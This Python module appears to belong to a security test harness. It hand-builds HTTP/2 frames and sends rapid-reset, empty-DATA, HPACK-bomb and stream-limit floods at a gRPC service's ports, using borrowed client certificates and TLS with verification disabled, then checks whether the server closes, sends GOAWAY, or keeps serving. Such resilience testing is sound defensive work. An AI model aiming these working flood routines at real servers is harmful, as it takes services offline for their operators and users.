"""HTTP/2 by hand: enough of it to flood a server, and to answer one call as a false host."""
import socket
import ssl
import struct
import time

import wire
from cases import Outcome

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A field without indexing, without Huffman: HPACK's plainest form."""
    return b"\0" + size(len(name)) + name + size(len(value)) + value


def size(count, prefix=127):
    if count < prefix:
        return bytes([count])
    out, count = bytes([prefix]), count - prefix
    while count >= 128:
        out, count = out + bytes([count % 128 + 128]), count // 128
    return out + bytes([count])


def request(stream, path, more=b"", end=True):
    block = literal(b":method", b"POST") + literal(b":scheme", b"https") + literal(b":path", path.encode()) + \
        literal(b":authority", b"x") + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers") + more
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


def read(stream):
    """One frame: kind, flags, stream, payload; None at the end."""
    def exactly(count):
        data = b""
        while len(data) < count:
            got = stream.recv(count - len(data))
            if not got:
                raise EOFError
            data += got
        return data
    try:
        head = exactly(9)
        return head[3], head[4], struct.unpack(">I", head[5:9])[0], exactly(int.from_bytes(head[:3], "big"))
    except (EOFError, OSError, ssl.SSLError):
        return None


def flood(case):
    """What is sent after the preface, in parts."""
    what, path = case.body["h2"], "/wharfinger.v1.Agent/Top"
    if "rapid reset" in what:
        for n in range(10_000):
            yield request(2 * n + 1, path) + frame(RST, 0, 2 * n + 1, b"\0\0\0\x08")
    elif "empty DATA" in what:
        yield request(1, path, end=False)
        for _ in range(2000):
            yield frame(DATA, 0, 1) * 100
    elif "HPACK" in what:
        for n in range(200):
            yield request(2 * n + 1, path, literal(b"x-bomb", b"y" * 100) * 100)
    else:
        yield frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0")
        for n in range(500):
            yield request(2 * n + 1, path)


def attack(case, known, world):
    """At the tenants' port, which speaks no HTTP/2, and at a host's, with a tenant's certificate and with a role's."""
    a, agent = world.stage.a, world.site.agents[0]
    host, _, port = agent["listen"].rpartition(":")
    files = world.site.frontend["tls"]
    outcomes = [at(case, a.address, {"cert": f"{a.bundle}/cert.pem", "key": f"{a.bundle}/key.pem"}),
                at(case, (host, int(port)), {"cert": f"{a.bundle}/cert.pem", "key": f"{a.bundle}/key.pem"}),
                at(case, (host, int(port)), {"cert": files["cert"], "key": files["key"]})]
    return outcomes


def loose(cert=None, key=None):
    """A client that checks nothing: whom it reaches is not the question."""
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    tls.set_alpn_protocols(["h2"])
    if cert:
        tls.load_cert_chain(cert, key)
    return tls


def at(case, address, files):
    where = f"at {address[0]}:{address[1]}"
    try:
        stream = wire.dial(address, loose(**files), 10)
    except wire.Closed as closed:
        return Outcome("close", note=f"{where}: {closed}")
    began = time.monotonic()
    try:
        stream.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for part in flood(case):
            stream.sendall(part)
        stream.settimeout(5)
        while time.monotonic() < began + 15:
            got = read(stream)
            if got is None:
                return Outcome("close", note=where)
            if got[0] == GOAWAY:
                return Outcome("close", note=f"{where}: GOAWAY {got[3][4:8].hex()}")
    except (OSError, ssl.SSLError, socket.timeout):
        return Outcome("close", note=where)
    finally:
        stream.close()
    return Outcome("200", note=f"{where}: served")
